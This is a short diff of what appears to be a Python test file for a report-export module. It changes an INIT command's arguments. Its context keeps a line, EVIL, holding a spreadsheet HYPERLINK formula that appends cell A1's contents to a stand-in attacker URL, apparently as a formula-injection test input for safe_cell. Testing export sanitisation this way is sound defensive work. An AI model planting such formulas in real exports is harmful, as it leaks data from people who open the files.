@@ -9,8 +9,8 @@ import zipfile
 
 from stepdown.reports.export import safe_cell
 
-INIT = ("init", "--amount", "40", "--strength", "10", "--split", "4", "--times", "2",
-        "--duration-days", "200", "--style", "short", "--yes")  # fmt: skip
+INIT = ("init", "--amount", "40", "--strength", "5", "--split", "4", "--times", "2",
+        "--duration-days", "200", "--yes")  # fmt: skip
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 NUMBER = re.compile(r"[+-]?[0-9]+(?:[.][0-9]+)?")
 
